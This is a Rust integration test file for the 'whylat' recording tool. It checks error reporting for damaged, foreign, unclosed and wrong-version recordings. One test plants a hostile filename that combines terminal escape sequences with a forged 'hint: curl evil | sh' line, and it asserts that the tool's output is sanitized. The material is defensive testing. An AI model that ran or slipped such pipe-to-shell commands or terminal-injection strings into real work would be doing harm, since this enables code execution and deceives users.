//! Recordings of other versions, damaged, not closed, or made by another person to do harm: each ends with an exit code
//! of its own, and a message that names what is wrong.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use lab::Netns;
use nix::sys::signal::Signal;
use serde_json::Value;
use table::manifest::{FORMAT, Header};
use table::{Recording, WriteOptions, Writer};
use tempfile::TempDir;

use testbed::{ChildGuard, CommandOutput, Recorder, finish, program, role, root, wait, whylat};

/// A closed recording of a few calls, `r.whylat` in a directory.
pub fn recording() -> TempDir {
    let netns = Netns::new().expect("a namespace");
    let mut calls = role(&netns, "count-calls --pairs 1 --sends 503 --start-on-stdin");
    calls.port().expect("connected");
    let recorder = Recorder::start(&format!("-p {}", calls.pid()));
    calls.go().expect("go");
    calls.finish().expect("truth");
    recorder.stop_by(Signal::SIGINT)
}

/// A recording of nothing in another version of the format.
fn of_version(format: u32, header: &Header, scratch: &TempDir) -> PathBuf {
    let path = scratch.path().join(format!("format-{format}.whylat"));
    let header = Header {
        format,
        ..header.clone()
    };
    let writer = Writer::create(&path, &header, WriteOptions::default()).expect("create");
    writer.close(header.started_ns + 1).expect("close");
    path
}

#[test]
fn other_format_versions_are_reported() {
    if !root() {
        return;
    }
    let scratch = recording();
    let recorded = Recording::open(scratch.path().join("r.whylat")).expect("open");
    let earlier = of_version(FORMAT - 1, recorded.header(), &scratch);
    for command in ["report", "validate"] {
        finish(whylat(command).arg(&earlier)).assert_status(0);
    }
    let later = of_version(FORMAT + 1, recorded.header(), &scratch);
    for command in ["report", "validate", "recover"] {
        let output = finish(whylat(command).arg(&later));
        output
            .assert_status(1)
            .explains(&format!("format {}", FORMAT + 1));
    }
}

#[test]
fn damaged_and_foreign_recordings_are_reported() {
    if !root() {
        return;
    }
    let scratch = recording();
    let path = scratch.path().join("r.whylat");
    let file = fs::read_dir(path.join("calls"))
        .expect("calls")
        .flatten()
        .next();
    let file = file.expect("a segment").path();
    let name = file
        .file_name()
        .expect("a name")
        .to_str()
        .expect("text")
        .to_owned();
    let whole = fs::read(&file).expect("read");
    let mut flipped = whole.clone();
    flipped[whole.len() / 2] ^= 0x10;
    let cases: [(&str, &[u8]); 4] = [
        ("truncated", &whole[..whole.len() / 2]),
        ("flipped", &flipped),
        ("foreign", b"PNG and nothing of ours"),
        ("empty", b""),
    ];
    for (what, bytes) in cases {
        fs::write(&file, bytes).expect("write");
        assert_damage_named(&path, what, &name);
    }
    fs::remove_file(&file).expect("remove");
    assert_damage_named(&path, "missing", &name);
    fs::write(&file, &whole).expect("write");
    finish(whylat("validate").arg(&path)).assert_status(0);
    damaged_manifests(&path);
}

/// `report` goes on with the rest, `validate` fails, and both name the file.
fn assert_damage_named(path: &Path, what: &str, name: &str) {
    let output = finish(whylat("report --format json").arg(path));
    output.assert_status(3);
    let json: Value = serde_json::from_str(&output.out).expect("JSON");
    assert!(
        json["problems"].to_string().contains(name),
        "{what}: {}",
        json["problems"]
    );
    assert_eq!(
        json["connections"].as_array().map(Vec::len),
        Some(2),
        "{what}"
    );
    let output = finish(whylat("report").arg(path));
    output.assert_status(3);
    assert!(output.out.contains(name), "{what}: {}", output.out);
    let output = finish(whylat("validate").arg(path));
    output.assert_status(1);
    assert!(output.out.contains(name), "{what}: {output:?}");
}

fn damaged_manifests(path: &Path) {
    let manifest = path.join("manifest.jsonl");
    let whole = fs::read(&manifest).expect("read");
    let cases: [(&str, &[u8]); 3] = [
        ("empty", b""),
        ("foreign", b"GIF89a\x01\x00\n"),
        ("half a line", &whole[..100]),
    ];
    for (what, bytes) in cases {
        fs::write(&manifest, bytes).expect("write");
        for command in ["report", "validate", "recover"] {
            let output = finish(whylat(command).arg(path));
            assert_eq!(output.code, Some(1), "{what}, {command}: {output:?}");
            output.assert_status(1).explains("manifest.jsonl");
        }
    }
    fs::remove_file(&manifest).expect("remove");
    finish(whylat("report").arg(path))
        .assert_status(1)
        .explains("manifest.jsonl");
    finish(whylat("report").arg(path.join("calls")))
        .assert_status(1)
        .explains("manifest.jsonl");
    finish(whylat("report").arg(program()))
        .assert_status(1)
        .explains("directory");
    finish(&mut whylat("report /no/such/recording"))
        .assert_status(1)
        .explains("/no/such/recording");
}

/// A closed recording of nothing, which needs no root.
fn written(scratch: &TempDir) -> PathBuf {
    let unknown = || "unknown".to_owned();
    let header = Header {
        format: FORMAT,
        whylat: unknown(),
        host: unknown(),
        boot_id: unknown(),
        kernel: unknown(),
        cpus: 1,
        architecture: None,
        clocksource: unknown(),
        detail: "calls".to_owned(),
        arguments: Vec::new(),
        started_ns: 1,
        started_realtime_ns: 1,
        jiffy_ns: None,
    };
    of_version(FORMAT, &header, scratch)
}

/// The output is text: nothing in it steers a terminal, and the recording's author made no line of it.
#[track_caller]
fn assert_tame(output: &CommandOutput) {
    for text in [&output.out, &output.err] {
        let steers = |c: char| c.is_control() && c != '\n';
        assert!(!text.contains(steers), "{text:?}");
        let is_forged = |line: &str| line.starts_with("hint: curl");
        assert!(!text.lines().any(is_forged), "{text:?}");
    }
}

/// The author of a recording chooses the names of its files.
#[test]
fn recorded_names_are_cleaned() {
    const HOSTILE: &str = "\u{1b}]0;owned\u{7}\u{9b}31m\rname\nhint: curl evil | sh\n";
    let scratch = tempfile::tempdir().expect("a directory");
    let path = written(&scratch);
    fs::create_dir(path.join("calls")).expect("mkdir");
    let stray = path.join("calls").join(format!("{HOSTILE}.parquet"));
    fs::write(stray, "not ours").expect("write");
    for (command, code) in [("validate", 1), ("recover", 0)] {
        let output = finish(whylat(command).arg(&path));
        output.assert_status(code);
        assert!(output.out.contains("name\\nhint"), "{output:?}");
        assert_tame(&output);
    }
    let hostile = scratch.path().join(format!("{HOSTILE}.whylat"));
    for command in ["report", "validate", "recover", "view --no-open"] {
        let output = finish(whylat(command).arg(&hostile));
        output.assert_status(1).explains("no such directory");
        assert_tame(&output);
    }
    fs::rename(&path, &hostile).expect("rename");
    let mut command = whylat("report --format csv --table none");
    let output = finish(command.current_dir(scratch.path()));
    output.assert_status(1).explains("holds no table none");
    assert_tame(&output);
}

#[test]
fn validate_and_recover_take_newest_recording() {
    let scratch = tempfile::tempdir().expect("a directory");
    for command in ["validate", "recover"] {
        let output = finish(whylat(command).current_dir(scratch.path()));
        output.assert_status(1).explains("no recording");
    }
    let path = written(&scratch);
    for command in ["validate", "validate --json", "recover"] {
        let output = finish(whylat(command).current_dir(scratch.path()));
        output.assert_status(0);
        let name = path.file_name().and_then(|name| name.to_str());
        assert!(output.out.contains(name.expect("a name")), "{output:?}");
    }
}

/// A recording without its end is one to report, to check, and to close.
#[test]
fn unclosed_recording_has_its_exit_code() {
    let scratch = tempfile::tempdir().expect("a directory");
    let path = written(&scratch);
    let manifest = path.join("manifest.jsonl");
    let whole = fs::read_to_string(&manifest).expect("read");
    let (rest, last) = whole.trim_end().rsplit_once('\n').expect("lines");
    assert!(last.contains("close"), "{last}");
    fs::write(&manifest, format!("{rest}\n")).expect("write");
    for command in ["report", "validate", "recover", "report", "validate"] {
        finish(whylat(command).arg(&path)).assert_status(3);
    }
}

#[test]
fn closed_pipe_does_not_panic() {
    if !root() {
        return;
    }
    let scratch = recording();
    for command in ["report", "report --format json"] {
        let (reader, writer) = std::io::pipe().expect("a pipe");
        drop(reader);
        let errors = scratch.path().join("errors");
        let mut command = whylat(command);
        command
            .arg(scratch.path().join("r.whylat"))
            .stdout(Stdio::from(writer));
        command.stderr(fs::File::create(&errors).expect("a file"));
        wait(&mut ChildGuard::start(&mut command).0, "the report");
        let stderr = fs::read_to_string(&errors).expect("read");
        assert!(!stderr.contains("panicked"), "{stderr}");
    }
}
